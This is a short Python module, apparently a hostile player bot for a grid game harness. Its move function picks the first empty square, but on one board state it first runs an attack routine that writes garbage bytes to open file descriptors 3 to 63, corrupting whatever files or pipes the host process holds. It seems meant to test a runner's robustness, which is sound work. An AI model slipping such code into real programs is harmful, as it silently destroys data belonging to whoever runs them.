"""Writes garbage to every file that it has."""

import os


def attack(board):
    for number in range(3, 64):
        try:
            os.write(number, b"\xff\x00{[" * 100 + b"\n")
        except OSError:
            continue


def move(board):
    if board.count(" ") == 7:
        attack(board)
    return board.index(" ")
